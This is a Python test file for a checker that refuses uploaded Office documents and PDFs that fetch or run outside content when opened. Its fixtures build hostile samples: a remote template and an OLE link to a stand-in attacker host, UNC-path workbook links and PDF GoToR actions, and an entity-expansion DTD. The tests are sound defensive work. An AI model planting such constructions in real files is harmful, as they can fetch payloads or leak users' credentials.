"""Office files that fetch or run something from outside when opened, and PDFs that act by
themselves when opened, are refused (`tracker.untrusted`), in uploads and in the import."""

from __future__ import annotations

import io

import pytest
from pypdf.generic import ArrayObject, NameObject, NumberObject, TextStringObject

from tests.milestones.files import _OFFICE, _RELS_NS, _action, _package, _pdf, make_docx
from tests.tracker.test_participant_import import _row, _upload, _xlsx
from tracker import untrusted

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCUMENT = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Laporan</w:t></w:r></w:p></w:body></w:document>"
)


def _rels(*relationships: str) -> str:
    return f'<Relationships xmlns="{_RELS_NS}">{"".join(relationships)}</Relationships>'


def _docx(parts: dict[str, str]) -> bytes:
    return _package(
        "word/document.xml",
        f"{_OFFICE}.wordprocessingml.document.main+xml",
        {"word/document.xml": DOCUMENT, **parts},
    )


def _check(content: bytes) -> untrusted.OfficePackage:
    return untrusted.inspect_ooxml(io.BytesIO(content), max_uncompressed=10 * 1024 * 1024)


EXTERNAL_TEMPLATE = _docx(
    {
        "word/_rels/settings.xml.rels": _rels(
            f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
            'Target="http://penyerang.example/templat.dotm" TargetMode="External"/>'
        ),
        "word/settings.xml": "<w:settings/>",
    }
)
OLE_OBJECT = _docx(
    {
        "word/_rels/document.xml.rels": _rels(
            f'<Relationship Id="rId5" Type="{REL}/oleObject" '
            'Target="https://penyerang.example/x.html!" TargetMode="External"/>'
        )
    }
)
EMBEDDED_OBJECT = _docx({"word/embeddings/oleObject1.bin": "objek"})
EXTERNAL_PICTURE = _docx(
    {
        "word/_rels/document.xml.rels": _rels(
            f'<Relationship Id="rId7" Type="{REL}/image" '
            'Target="https://pelacak.example/piksel.png" TargetMode="External"/>'
        )
    }
)
HYPERLINK = _docx(
    {
        "word/_rels/document.xml.rels": _rels(
            f'<Relationship Id="rId9" Type="{REL}/hyperlink" '
            'Target="https://jejak.example/" TargetMode="External"/>'
        )
    }
)
WITH_DTD = _docx(
    {
        "word/_rels/document.xml.rels": (
            '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
            f'<Relationships xmlns="{_RELS_NS}"><Relationship Id="&b;" Type="x" Target="y"/>'
            "</Relationships>"
        )
    }
)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (EXTERNAL_TEMPLATE, "attachedtemplate"),
        (OLE_OBJECT, "oleobject"),
        (EMBEDDED_OBJECT, "word/embeddings/oleObject1.bin"),
        (EXTERNAL_PICTURE, "tautan ke isi di luar berkas (image)"),
    ],
    ids=["external-template", "ole-object", "embeddings-part", "external-picture"],
)
def test_office_files_that_reach_outside_or_embed_objects_are_refused(content, said):
    with pytest.raises(untrusted.UnsafeFile) as refused:
        _check(content)
    message = str(refused.value.message)
    assert said in message
    assert "Simpan ulang sebagai dokumen biasa tanpa tautan templat" in message


def test_hyperlinks_and_plain_documents_are_fine():
    assert _check(HYPERLINK).names
    assert _check(make_docx()).names


def test_relationships_with_a_dtd_are_refused_as_unreadable():
    with pytest.raises(untrusted.DamagedFile):
        _check(WITH_DTD)


def _workbook_with(extra: dict[str, str]) -> bytes:
    """A real workbook (openpyxl's) with parts added."""
    import zipfile

    source = io.BytesIO(_xlsx([]))
    target = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            new.writestr(item, old.read(item.filename))
        for name, data in extra.items():
            new.writestr(name, data)
    return target.getvalue()


def test_an_import_workbook_linking_other_workbooks_is_refused(client, world):
    linked = _workbook_with(
        {
            "xl/externalLinks/externalLink1.xml": "<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{REL}/externalLinkPath" '
                'Target="file:///\\\\penyerang.example\\berbagi\\data.xlsx" TargetMode="External"/>'
            ),
        }
    )
    client.force_login(world.organiser)
    response = _upload(client, world, linked, name="peserta.xlsx")
    assert response.status_code == 400
    assert "dapat mengambil atau menjalankan isi dari luar" in response.content.decode()
    # The same workbook without the links is read.
    assert _upload(client, world, _xlsx([_row(world)]), name="peserta.xlsx").status_code == 200


# --- PDFs that act when opened ----------------------------------------------------------------


def _open_action(action) -> bytes:
    def change(writer):
        writer._root_object[NameObject("/OpenAction")] = action(writer)

    return _pdf(change)


OPEN_URI = _open_action(lambda w: _action("/URI", URI=TextStringObject("https://x.example/")))
OPEN_REMOTE = _open_action(
    lambda w: _action(
        "/GoToR",
        F=TextStringObject("\\\\penyerang.example\\berbagi\\a.pdf"),
        D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
    )
)
OPEN_CHAIN = _open_action(
    lambda w: _action(
        "/GoTo",
        D=ArrayObject([w.pages[0].indirect_reference, NameObject("/Fit")]),
        Next=w._add_object(_action("/URI", URI=TextStringObject("https://x.example/"))),
    )
)
OPEN_GOTO = _open_action(
    lambda w: _action("/GoTo", D=ArrayObject([w.pages[0].indirect_reference, NameObject("/Fit")]))
)


@pytest.mark.parametrize(
    ("content", "feature"),
    [(OPEN_URI, "URI"), (OPEN_REMOTE, "GoToR"), (OPEN_CHAIN, "URI")],
    ids=["uri", "remote-file", "chained-uri"],
)
def test_a_pdf_that_opens_an_address_or_another_file_is_refused(content, feature):
    with pytest.raises(untrusted.UnsafeFile) as refused:
        untrusted.check_pdf(io.BytesIO(content))
    assert f"PDF ini memuat isi aktif ({feature})" in str(refused.value.message)


def test_a_pdf_that_opens_at_one_of_its_pages_is_fine():
    untrusted.check_pdf(io.BytesIO(OPEN_GOTO))
